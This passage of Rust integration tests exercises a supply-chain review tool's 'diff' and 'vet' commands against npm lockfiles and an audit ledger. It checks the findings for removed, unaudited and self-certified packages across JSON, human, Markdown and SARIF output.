    let fx = Fixture::new(&registry);
    let all = [
        (&w.colorize_old, sri(&w.colorize_old.tgz)),
        (&w.str_helper, sri(&w.str_helper.tgz)),
        (&w.old_dep, sri(&w.old_dep.tgz)),
    ];
    commit(&fx.repo, &all, "base");
    commit(&fx.repo, &all[..2], "drop old-dep");
    git(&fx.repo, &["rm", "-q", "--cached", ".npmrc"]);
    git(&fx.repo, &["commit", "-q", "-m", "untrack .npmrc"]);
    std::fs::write(fx.repo.join("diligence.toml"), RAISE_REMOVED).unwrap();
    let (code, stdout, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--format",
        "json",
        "HEAD~2",
    ]);
    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        summary(&report),
        [(
            "diff/package-removed".to_string(),
            "old-dep@1.0.0".to_string(),
            "high".to_string()
        )]
    );
}

/// The ledger's files at `repo/supply-chain`, committed with `message`.
fn commit_ledger(repo: &Path, files: &[(&str, &str)], message: &str) {
    let dir = repo.join("supply-chain");
    std::fs::create_dir_all(&dir).unwrap();
    for (name, text) in files {
        std::fs::write(dir.join(name), text).unwrap();
    }
    git(repo, &["add", "supply-chain"]);
    git(repo, &["commit", "-q", "-m", message]);
}

/// The vet findings of a report: (rule, package, severity, message), sorted.
fn vet_findings(report: &Value) -> Vec<(String, String, String, String)> {
    let mut out: Vec<(String, String, String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("vet/"))
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                format!(
                    "{}@{}",
                    f["package"]["name"].as_str().unwrap(),
                    f["package"]["version"].as_str().unwrap()
                ),
                f["severity"].as_str().unwrap().to_string(),
                f["message"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    out.sort();
    out
}

/// Issue 15 item 6: with an audit ledger at the base, `diff` lists the added and upgraded
/// packages it does not cover, with the size of the review and the certify command, in every
/// format. The base revision's ledger decides; an audit the pull request adds for its own
/// new dependency is `vet/certified-in-change` (medium), not coverage.
#[test]
fn diff_lists_what_the_base_ledger_does_not_cover() {
    let w = world();
    let registry = serve(&[&w.colorize_old, &w.colorize_new, &w.str_helper, &w.old_dep]);
    let fx = Fixture::new(&registry);
    let base = [
        (&w.colorize_old, sri(&w.colorize_old.tgz)),
        (&w.str_helper, sri(&w.str_helper.tgz)),
    ];
    commit(&fx.repo, &base, "base");
    // Adopt the ledger: every locked version exempted.
    let (code, _, stderr) = fx.diligence(&["vet", "regenerate-exemptions"]);
    assert_eq!(code, 0, "{stderr}");
    git(&fx.repo, &["add", "supply-chain"]);
    git(&fx.repo, &["commit", "-q", "-m", "adopt the ledger"]);
    // The head bumps colorize-text (new postinstall), adds old-dep, and certifies old-dep
    // itself in the same change.
    commit(
        &fx.repo,
        &[
            (&w.colorize_new, sri(&w.colorize_new.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "bump colorize-text, add old-dep",
    );
    commit_ledger(
        &fx.repo,
        &[(
            "audits.toml",
            "\n[[audits.old-dep]]\nwho = \"Mallory <m@example.invalid>\"\ncriteria = \"safe-to-deploy\"\nversion = \"1.0.0\"\n",
        )],
        "certify old-dep",
    );
    let unaudited = "colorize-text@1.0.1 is not audited for safe-to-deploy: review the delta from covered 1.0.0, 12 lines (`diligence vet certify colorize-text 1.0.0 1.0.1 --criteria safe-to-deploy`), or exempt it";
    let certified = "old-dep@1.0.0 is covered only by ledger entries this change adds (audit at HEAD:supply-chain/audits.toml:2 by Mallory <m@example.invalid>, full audit of 1.0.0 for safe-to-deploy): approve them with the code they cover (7 lines)";
    let diff = |format: &str| {
        fx.diligence(&[
            "diff",
            "HEAD~2",
            "HEAD",
            "--no-advisories",
            "--format",
            format,
        ])
    };
    let (code, stdout, stderr) = diff("json");
    assert_eq!(code, 1, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["not_evaluated"], json!([]));
    assert_eq!(
        vet_findings(&report),
        vec![
            (
                "vet/certified-in-change".to_string(),
                "old-dep@1.0.0".to_string(),
                "medium".to_string(),
                certified.to_string()
            ),
            (
                "vet/unaudited".to_string(),
                "colorize-text@1.0.1".to_string(),
                "high".to_string(),
                unaudited.to_string()
            ),
        ]
    );
    // The review is measured on the real tarballs: setup.js (9 lines) added, package.json's
    // version line changed and its postinstall line added.
    let bump = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "vet/unaudited")
        .unwrap();
    assert_eq!(
        bump["evidence"],
        json!({
            "base": "1.0.0",
            "missing": ["safe-to-deploy"],
            "required": ["safe-to-deploy"],
            "review": {"added": 11, "removed": 1, "lines": 12, "files": 2, "binaries": 0},
            "suggested": "diligence vet certify colorize-text 1.0.0 1.0.1 --criteria safe-to-deploy",
        })
    );
    assert_eq!(
        bump["location"],
        json!({"file": "package-lock.json", "line": 14})
    );
    // Human, Markdown and SARIF carry the same lines.
    let (code, stdout, _) = diff("human");
    assert_eq!(code, 1);
    assert!(
        stdout.contains(&format!("  HIGH      {unaudited}  vet/unaudited\n")),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!(
            "  MEDIUM    {certified}  vet/certified-in-change\n"
        )),
        "{stdout}"
    );
    let (code, stdout, _) = diff("markdown");
    assert_eq!(code, 1);
    assert!(
        stdout.contains("- **HIGH** `vet/unaudited` colorize-text@&#8203;1.0.1 is not audited for safe-to-deploy: review the delta from covered 1.0.0, 12 lines (\\`diligence vet certify colorize-text 1.0.0 1.0.1 --criteria safe-to-deploy\\`), or exempt it — `package-lock.json:14`\n"),
        "{stdout}"
    );
    assert!(
        stdout.contains("| `old-dep@1.0.0` | added | medium | 2 | `vet/certified-in-change` `diff/package-added` |"),
        "{stdout}"
    );
    let (code, stdout, _) = diff("sarif");
    assert_eq!(code, 1);
    let sarif: Value = serde_json::from_str(&stdout).unwrap();
    let results: Vec<(&str, &str, &str)> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["ruleId"].as_str().unwrap().starts_with("vet/"))
        .map(|r| {
            (
                r["ruleId"].as_str().unwrap(),
                r["level"].as_str().unwrap(),
                r["message"]["text"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        results,
        vec![
            ("vet/unaudited", "error", unaudited),
            ("vet/certified-in-change", "warning", certified),
        ]
    );

    // Nothing changed since the head: no ledger finding.
    let (code, _, stderr) = fx.diligence(&["diff", "HEAD", "--no-advisories", "--format", "json"]);
    assert_eq!(code, 0, "{stderr}");
    // A broken ledger at the base is not evaluated (exit 2), never a pass.
    std::fs::write(fx.repo.join("supply-chain/audits.toml"), "[[audits.x]\n").unwrap();
    git(&fx.repo, &["commit", "-q", "-am", "break the ledger"]);
    let (code, stdout, stderr) =
        fx.diligence(&["diff", "HEAD", "--no-advisories", "--format", "json"]);
    assert_eq!(code, 2, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        report["not_evaluated"],
        json!([
            {"what": "audit ledger (base)", "why": "HEAD:supply-chain/audits.toml:1:12: unclosed array table, expected `]`"},
            {"what": "audit ledger (head)", "why": "./supply-chain/audits.toml:1:12: unclosed array table, expected `]`"},
        ])
    );
}
